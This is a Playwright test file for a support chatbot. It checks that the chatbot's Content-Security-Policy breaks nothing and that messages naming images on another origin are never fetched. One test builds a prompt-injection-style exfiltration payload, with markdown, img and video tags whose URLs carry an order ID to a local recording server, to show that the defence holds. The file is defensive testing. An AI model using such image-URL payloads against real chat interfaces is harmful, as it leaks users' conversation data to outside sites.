"""The pages work in Chromium under their Content-Security-Policy (csbot/csp.py): nothing
on the player page, the staff dashboard or the analytics is refused by it, the chat's
WebSocket included, while the policy is in force on each of them. And a message naming
an image on another site makes no browser fetch it (chat/static/chat/markdown.js).

The browser says what the policy refused twice: a `securitypolicyviolation` event in the
page, and a console line "Refused to …". Both are recorded, across navigations.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests import servers
from tests.analytics.test_browser import ALL_DRAWN
from tests.e2e.test_staff_browser import ask, close_chat, open_player, sign_in_as_agent, take_over_a_new_chat

QUESTION = "充值没到账怎么办"
PLAYER_BOT = '[data-testid="message"][data-sender="bot"]'

# Before any script of the page's own: every violation goes to the console, which the test reads.
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (e) => {
  console.error("securitypolicyviolation: " + e.violatedDirective + " " + e.blockedURI);
});
"""


@pytest.fixture
def refused(browser):
    """A new browser context's pages, and what the policy refused on any of them."""
    contexts, refusals, errors = [], [], []

    def open_page(viewport=(1280, 860)):
        context = browser.new_context(locale="en-US", viewport={"width": viewport[0], "height": viewport[1]})
        context.set_default_timeout(15_000)
        context.add_init_script(REPORT_VIOLATIONS)
        contexts.append(context)
        page = context.new_page()
        page.on(
            "console",
            lambda msg: (
                refusals.append(msg.text) if "securitypolicyviolation" in msg.text or "Refused to" in msg.text else None
            ),
        )
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        return page

    open_page.refusals = refusals
    yield open_page
    for context in contexts:
        context.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def test_the_player_page_the_dashboard_and_analytics_work_with_nothing_refused(refused, chat_server):
    from playwright.sync_api import expect

    player = refused(viewport=(420, 860))
    shown = player.goto(chat_server.url + "/")
    assert "script-src 'self'" in shown.headers["content-security-policy"]  # the policy is in force
    cid = open_player(player, chat_server.url)  # the WebSocket is open: 'self' covers ws:
    ask(player, QUESTION)
    answer = player.locator(PLAYER_BOT).last
    expect(answer).to_have_attribute("data-status", "done", timeout=30_000)
    expect(answer.get_by_test_id("message-text")).to_contain_text("充值")

    agent = refused()
    sign_in_as_agent(agent, chat_server.url)  # the sign-in page, then the dashboard
    assert "script-src 'self'" in agent.evaluate(
        "() => fetch('/staff/').then((r) => r.headers.get('content-security-policy'))"
    )
    agent.get_by_test_id("filter-open").click()
    agent.locator(f'[data-testid="conversation-row"][data-id="{cid}"]').click()
    expect(agent.locator('#messages [data-sender="bot"]').last.get_by_test_id("message-text")).to_contain_text("充值")

    manager = refused()
    manager.goto(chat_server.url + "/analytics/")
    manager.fill("#id_username", "manager")
    manager.fill("#id_password", "manager-demo-2026")
    manager.get_by_role("button", name="Sign in").click()
    expect(manager.get_by_test_id("analytics")).to_be_visible()
    manager.wait_for_function(ALL_DRAWN)
    assert refused.refusals == []
    # The shared styles apply (a file now: the policy refuses inline ones): the header is a flex row.
    assert manager.locator(".site-header").evaluate("(h) => getComputedStyle(h).display") == "flex"


class Elsewhere:
    """Another site (another port: another origin) that records every request it gets."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Record(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def elsewhere():
    site = Elsewhere()
    yield site
    site.stop()


@pytest.fixture(scope="module")
def server_without_policy(tmp_path_factory):
    """csbot with CONTENT_SECURITY_POLICY set empty: only the page's own rendering stands."""
    server = servers.demo_daphne(tmp_path_factory.mktemp("no_policy"), CONTENT_SECURITY_POLICY="")
    yield server
    server.stop()


# One black pixel, inside the text: loading it asks nobody.
INLINE_PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw=="


@pytest.mark.parametrize("policy", ["in force", "turned off"])
def test_an_image_from_another_site_is_shown_as_a_link_and_never_fetched(refused, elsewhere, request, policy):
    """A prompt-injected message names an image whose URL carries the chat's data to
    another site: the player and the watching agent see a link named by its alt text, and
    that site hears nothing, even with the policy turned off."""
    from playwright.sync_api import expect

    server = request.getfixturevalue("chat_server" if policy == "in force" else "server_without_policy")
    asked_elsewhere: list[str] = []
    agent, player = refused(), refused(viewport=(420, 860))
    for page in (agent, player):
        page.on("request", lambda r: asked_elsewhere.append(r.url) if r.url.startswith(elsewhere.url) else None)
    sign_in_as_agent(agent, server.url)
    take_over_a_new_chat(agent, player, server.url)
    reply = (
        f"Your receipt: ![your receipt](<{elsewhere.url}/p.png?d=order-SL2025061201>)\n\n"
        f'<img src="{elsewhere.url}/raw.png" alt="the raw receipt"> '
        f'<video src="{elsewhere.url}/v.mp4" poster="{elsewhere.url}/poster.png"></video>\n\n'
        f"![our logo]({INLINE_PIXEL})"
    )
    agent.get_by_test_id("agent-input").fill(reply)
    agent.get_by_test_id("agent-input").press("Enter")

    to_player = player.locator('[data-testid="message"][data-sender="agent"]').get_by_test_id("message-text")
    in_dashboard = agent.locator('#messages [data-sender="agent"]').get_by_test_id("message-text")
    for shown in (to_player.first, in_dashboard.first):
        link = shown.get_by_role("link", name="your receipt")
        expect(link).to_have_attribute("href", f"{elsewhere.url}/p.png?d=order-SL2025061201")
        expect(link).to_have_attribute("target", "_blank")
        expect(shown.get_by_role("link", name="the raw receipt")).to_have_attribute("href", f"{elsewhere.url}/raw.png")
        expect(shown.get_by_role("img", name="our logo")).to_be_visible()  # inside the text: still an image
        expect(shown.locator(f'[src^="{elsewhere.url}"], [poster]')).to_have_count(0)
    player.wait_for_timeout(500)  # time for a fetch that should not come

    assert elsewhere.hits == [] and asked_elsewhere == []
    assert refused.refusals == []
    close_chat(agent)  # room for the chats of the tests after this one
    expect(agent.get_by_test_id("conv-state")).to_have_attribute("data-state", "closed")
